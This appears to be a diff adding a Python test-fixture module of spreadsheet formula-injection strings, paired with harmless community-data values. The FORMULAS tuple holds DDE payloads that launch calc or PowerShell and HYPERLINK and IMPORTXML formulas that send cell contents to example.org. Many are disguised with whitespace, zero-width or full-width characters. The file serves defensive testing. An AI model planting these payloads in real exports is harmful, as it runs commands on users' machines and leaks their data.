@@ -1,0 +1,41 @@
+"""Texts that a spreadsheet might work out, in the shapes in which they are smuggled into open data."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    "=2+5+cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "|calc",
+    "%0A=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tdata",
+    " =1+1",
+    "\u3000=1+1",
+    "\xa0=1+1",
+    "\u200b=1+1",
+    "\u2060\u200d=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\uff5ccalc",
+    "\uff051",
+    "\ufe661+1",
+    "\u22121+1",
+    '="a"&"b"',
+    '=HYPERLINK("http://example.org?x="&A1,"看这里")',
+    '=WEBSERVICE("http://example.org")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
+    '=cmd|"/C powershell"!A1',
+    '=SUM(1,1)","=1+1',
+)
+HARMLESS = ("梧桐社区", "1+1=2", "电话028-12345678", "a=b", "'=1+1", "2026-001", "5%", "", "居民@社区")
